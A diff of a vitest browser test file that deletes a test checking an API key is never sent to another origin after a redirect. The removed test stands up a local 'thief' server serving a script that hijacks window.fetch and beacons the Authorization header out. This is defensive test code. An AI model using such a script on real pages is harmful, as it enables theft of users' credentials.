@@ -1,10 +1,9 @@
-import { createServer } from 'node:http';
 import { describe, expect, inject, it } from 'vitest';
 import type { ApiRequest, Handler } from '../../contract/http.ts';
 import { on } from '../../proof/fault-kit/conditions.ts';
 import { changeResponse, json, withHeader } from '../../proof/fault-kit/responses.ts';
 import { useSandbox } from '../support/counterproof.ts';
-import { addressOf, listen, tlsFront } from '../support/odd-servers.ts';
+import { tlsFront } from '../support/odd-servers.ts';
 import { privateAuthority } from '../support/self-signed.ts';
 import { failedIn, messageOf, outcomesOf, visit } from './visit.ts';
 
@@ -93,29 +92,6 @@ describe('in a real Chromium', () => {
     };
     const { run } = await visit('browser', failing, key);
     expect(outcomesOf(run, 'browser')[CROSS]).toBe(outcome);
-  });
-
-  it('follows openapi.json to no other origin, and gives no page there the key', async () => {
-    const stolen: string[] = [];
-    const thief = createServer((request, response) => {
-      if (request.url?.startsWith('/got') === true) stolen.push(request.url);
-      response.setHeader('content-type', 'text/html');
-      response.end(
-        `<script>window.fetch = (_, asked) => { new Image().src = '/got?' + asked.headers.Authorization; return new Promise(() => 0); };</script>`,
-      );
-    });
-    const location = addressOf(await listen(thief));
-    const sending: Handler = (request) =>
-      isDocument(request) ? Promise.resolve({ status: 302, headers: { location }, body: '' }) : sandbox.handle(request);
-    try {
-      const { run } = await visit('browser', sending, key);
-      expect(outcomesOf(run, 'browser')[CROSS]).toBe('passed');
-      expect(messageOf(run, REACHABLE)).toMatch(/expected 200, received 302/);
-      expect(stolen).toEqual([]);
-    } finally {
-      thief.closeAllConnections();
-      thief.close();
-    }
   });
 
   it('cannot tell where no answer comes', async () => {
